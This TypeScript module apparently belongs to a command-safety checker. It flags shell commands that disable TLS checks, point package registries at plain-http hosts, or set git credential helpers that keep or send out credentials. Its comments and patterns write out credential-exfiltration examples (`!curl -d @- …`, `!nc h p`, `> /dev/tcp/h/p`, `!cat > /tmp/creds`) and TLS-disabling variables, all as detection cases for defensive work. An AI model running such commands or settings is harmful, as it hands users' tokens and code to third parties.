import { type Invocation, unwrap } from './command.ts';
import { networkPath, networkSink } from './network-sinks.ts';
import { runnerInner } from './runners.ts';
import { parseShell } from './shell.ts';
import { DECLARATIONS } from './shell-vars.ts';
import type { SimpleCommand } from './syntax.ts';

/** A finding on a setting: the rule and why (git-rules.ts Finding's shape, which imports git-settings.ts and so this module). */
export interface TransportFinding {
  rule: string;
  reason: string;
}

/**
 * Settings that outlive the command that writes them and send credentials or code elsewhere
 * (docs/safety.md, "Remote shells, served folders and settings that send credentials elsewhere"): a package registry
 * reached over plain http (what installs comes from whoever is on the way, and the token sent
 * with it goes to them), and TLS checks turned off (a machine on the way answers for any host and
 * reads every credential sent to it). Written with the package managers' own `config set`, or
 * exported into the environment every later program inherits. git's own (`http.sslVerify`,
 * `url.<base>.insteadOf`, `credential.helper`) are git-settings.ts's, with the helpers below.
 * A variable set before one program (`NODE_TLS_REJECT_UNAUTHORIZED=0 node x.js`) is that call's
 * alone, and passes.
 */

/** The host a URL names (`https://user@host:1/x`, scp's `git@host:path`), lower-cased; `*` for a scheme alone (`https://`: every host); null for no URL (`gh:`, a path). */
export function urlHost(url: string): string | null {
  const full = /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/?#]*@)?(\[[^\]]*\]|[^/:?#]*)/i.exec(url);
  if (full) return full[1]!.toLowerCase() || '*';
  const scp = /^(?:([^@/:]+)@)?([^@/:]+):/.exec(url);
  return scp && (scp[1] || scp[2]!.includes('.')) ? scp[2]!.toLowerCase() : null;
}

/** This machine's own names: a server there is reached without crossing a network. */
const LOOPBACK = /^(localhost|[\w-]+\.localhost|127(\.\d+){3}|\[::1\]|0\.0\.0\.0)$/;

/** Whether `url` is plain http (or git://) to a host that is not this machine: `http://evil.example`, not `http://localhost:4873`. */
export function plainHttpElsewhere(url: string): boolean {
  if (!/^(http|git):\/\//i.test(url.trim())) return false;
  const host = urlHost(url.trim());
  return host !== null && !LOOPBACK.test(host);
}

/** A setting's value that turns something off: `false`, `no`, `off`, `0`. */
export const OFF = /^(false|no|off|0)$/i;

/**
 * What a credential helper given as a shell command (`credential.helper '!…'`: git hands it every
 * credential on stdin) does with what it reads, when that is keeping or sending it: writing it
 * into a file (`!cat > /tmp/creds`, `!tee -a f`), sending it to a network sink that reads stdin or
 * a socket (`!curl -d @- …`, `!nc h p`, `> /dev/tcp/h/p`) or putting what a substitution reads in
 * a sink's words (`!curl "https://x/?$(cat)"`); null when it does neither (`!gh auth
 * git-credential`, `!f() { echo password=$T; }; f`).
 */
export function helperKeeps(line: string, depth = 0): string | null {
  for (const cmd of parseShell(line, { home: '', depth: 1 }).commands) {
    // `sh -c 'cat | nc h p'`: the shell line it runs, read the same way
    const nested = depth < 4 ? unwrap(cmd).scripts : [];
    for (const s of nested) {
      const kept = helperKeeps(s, depth + 1);
      if (kept) return kept;
    }
    const written = cmd.redirects.find((r) => /^(&?>>?|>\||<>)$/.test(r.op) && r.target && !/^\/dev\/(null|stdout|stderr|fd\/[12])$/.test(r.target.value));
    if (written?.target && networkPath(written.target.value)) return `sends them to ${written.target.value}`;
    if (written?.target) return `writes them into ${written.target.value}`;
    const inv = unwrap(cmd).invocation;
    if (!inv) continue;
    if (inv.program === 'tee' && inv.args.some((a) => !a.value.startsWith('-'))) return 'writes them into a file';
    const sink = networkSink(inv);
    if (sink && (sink.stdin || inv.args.some((a) => a.subs.length))) return `sends them with \`${inv.program}\``;
  }
  return null;
}

/** The finding for a setting that sends credentials or code elsewhere: the rule, and why. */
export function transportFinding(
  rule: 'network.tlsOff' | 'network.plainHttp' | 'network.redirect' | 'network.credentialHelper' | 'network.contentFilter',
  what: string,
): TransportFinding {
  const why: Record<typeof rule, string> = {
    'network.contentFilter': "git hands a filter the content of every file it stages or checks out: the project's code and any secret among its files",
    'network.tlsOff': 'with TLS checks off, any machine on the way can answer for the host and read the credentials sent to it',
    'network.plainHttp': 'over plain http, what is installed comes from whoever is on the way, and the token sent with it goes to them',
    'network.redirect': 'every later fetch and push of that host goes to another one, the code and the credentials with them',
    'network.credentialHelper': 'git hands a credential helper every credential it uses',
  };
  return { rule, reason: `${what}: ${why[rule]}. Ask the user to change this setting themselves if it is meant` };
}

/** A package manager's setting (key lower-cased) and what makes its value send credentials or code elsewhere. */
const PACKAGE_SETTINGS: Array<[RegExp, (value: string) => 'network.tlsOff' | 'network.plainHttp' | null]> = [
  // npm, pnpm, yarn 1 `registry` and `@scope:registry`; yarn 2+ `npmRegistryServer`; pip's index URLs
  // bun's `install.registry`; gem's sources, bundler's `mirror.<source>`, composer's `repos.<name>`, Go's `GOPROXY`, conda's `channel_alias`
  [
    /^((install\.)?registry|@[^:]+:registry|npmregistryserver|((global|install|download|search|index)\.)?(extra-)?index(-url)?|source|mirror\..+|(repos|repositories)\..+|goproxy|channel_alias)$/,
    (v) => (v.split(/[\s,|'"{}]+/).some(plainHttpElsewhere) ? 'network.plainHttp' : null),
  ],
  // npm `strict-ssl`, yarn 2+ `enableStrictSsl`, conda `ssl_verify`, composer `secure-http`, bundler's `ssl_verify_mode` (0: none)
  [/^(strict-ssl|enablestrictssl|ssl_verify|secure-http|ssl_verify_mode)$/, (v) => (OFF.test(v) ? 'network.tlsOff' : null)],
  // Go's `GOINSECURE` (modules fetched without TLS checks, or over http) and `-insecure` in `GOFLAGS`
  [/^goinsecure$/, (v) => (v ? 'network.tlsOff' : null)],
  [/^goflags$/, (v) => (/(^|\s)-insecure\b/.test(v) ? 'network.tlsOff' : null)],
  // pip's `trusted-host`: no TLS check for the hosts it names
  [/^((global|install|download)\.)?trusted-host$/, (v) => (v ? 'network.tlsOff' : null)],
];

/** The settings a package manager's command line writes, keys lower-cased: `npm config set K V`, `npm set K=V`, `yarn config set K V`, `pip config set K V`, `conda config --set K V`, `composer config K V`. */
function packageSettings(program: string, args: readonly string[]): Array<[string, string]> {
  const inner = /^python[\d.]*$|^py$/.test(program) ? runnerInner(program, args) : null;
  const [p, a] = inner ?? [program, args];
  const words = a.filter((w) => !w.startsWith('-'));
  let pairs: string[] = [];
  if (/^(npm|pnpm|yarn|pip[\d.]*)$/.test(p)) {
    if (words[0] === 'set' && (p === 'npm' || p === 'pnpm')) pairs = words.slice(1);
    else if (words[0] === 'config' && words[1] === 'set') pairs = words.slice(2);
  } else if (p === 'conda' && words[0] === 'config') {
    const at = a.indexOf('--set');
    if (at >= 0) pairs = a.slice(at + 1, at + 3);
  } else if (p === 'composer' && words[0] === 'config') {
    // `composer config repos.x composer http://…`: a repository's type and URL (or its JSON) after its key
    pairs = /^(repos|repositories)\./i.test(words[1] ?? '') ? [words[1]!, words.slice(2).join(' ')] : words.slice(1, 3);
  } else if (p === 'gem' && words[0] === 'sources') pairs = ['source', optionValue(a, '--add', '-a')];
  else if (p === 'bundle' && words[0] === 'config') pairs = words.slice(words[1] === 'set' ? 2 : 1, words[1] === 'set' ? 4 : 3);
  else if (p === 'go' && words[0] === 'env' && a.includes('-w')) pairs = words.slice(1);
  const out: Array<[string, string]> = [];
  for (let i = 0; i < pairs.length; i++) {
    const kv = /^([\w@:.-]+)=(.*)$/s.exec(pairs[i]!);
    if (kv) out.push([kv[1]!.toLowerCase(), kv[2]!]);
    else out.push([pairs[i]!.toLowerCase(), pairs[++i] ?? '']);
  }
  return out;
}

/** The value of an option given as `--add URL`, `--add=URL` or `-a URL`; '' when it is not given. */
function optionValue(args: readonly string[], long: string, short: string): string {
  for (let i = 0; i < args.length; i++) {
    if (args[i] === long || args[i] === short) return args[i + 1] ?? '';
    if (args[i]!.startsWith(`${long}=`)) return args[i]!.slice(long.length + 1);
  }
  return '';
}

/** The rule a package manager's setting (`key` lower-cased) breaks with `value`: plain http to a registry, TLS checks off; null for none. */
export function packageSettingRule(key: string, value: string): 'network.tlsOff' | 'network.plainHttp' | null {
  return PACKAGE_SETTINGS.find(([k]) => k.test(key))?.[1](value) ?? null;
}

/** Variables every later program reads: those that turn TLS checks off, and those naming a registry or index. */
const VARIABLES: Record<string, (value: string) => 'network.tlsOff' | 'network.plainHttp' | null> = {
  GIT_SSL_NO_VERIFY: () => 'network.tlsOff',
  NODE_TLS_REJECT_UNAUTHORIZED: (v) => (v === '0' ? 'network.tlsOff' : null),
  PYTHONHTTPSVERIFY: (v) => (v === '0' ? 'network.tlsOff' : null),
  NPM_CONFIG_STRICT_SSL: (v) => (OFF.test(v) ? 'network.tlsOff' : null),
  npm_config_strict_ssl: (v) => (OFF.test(v) ? 'network.tlsOff' : null),
  YARN_ENABLE_STRICT_SSL: (v) => (OFF.test(v) ? 'network.tlsOff' : null),
  PIP_TRUSTED_HOST: (v) => (v ? 'network.tlsOff' : null),
  GOINSECURE: (v) => (v ? 'network.tlsOff' : null),
  GOFLAGS: (v) => (/(^|\s)-insecure\b/.test(v) ? 'network.tlsOff' : null),
  ...Object.fromEntries(
    [
      'NPM_CONFIG_REGISTRY',
      'npm_config_registry',
      'YARN_NPM_REGISTRY_SERVER',
      'YARN_REGISTRY',
      'PIP_INDEX_URL',
      'PIP_EXTRA_INDEX_URL',
      'UV_INDEX_URL',
      'UV_EXTRA_INDEX_URL',
      'UV_DEFAULT_INDEX',
      'UV_INDEX',
      'GOPROXY',
    ].map((name) => [name, (v: string) => (plainHttpElsewhere(v) ? 'network.plainHttp' : null)]),
  ),
};

/**
 * The finding on a command that writes such a setting: a package manager's `config set`, or a
 * variable exported or assigned alone (`export GIT_SSL_NO_VERIFY=1`; assigned alone, it may be
 * exported already); null when it writes none.
 */
export function checkTransportSettings(cmd: SimpleCommand, inv: Invocation | null): TransportFinding | null {
  const assigned = !inv ? cmd.words.map((w) => w.value) : DECLARATIONS.test(inv.program) ? inv.args.map((w) => w.value) : [];
  for (const word of assigned) {
    const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(word);
    const rule = m && Object.hasOwn(VARIABLES, m[1]!) ? VARIABLES[m[1]!]!(m[2]!) : null;
    if (rule) return transportFinding(rule, `\`${word}\` is seen by every later program`);
  }
  if (!inv) return null;
  for (const [key, value] of packageSettings(
    inv.program,
    inv.args.map((w) => w.value),
  )) {
    const rule = packageSettingRule(key, value);
    if (rule) return transportFinding(rule, `\`${inv.program}\` sets \`${key}\` to \`${value}\` for every later install`);
  }
  return null;
}
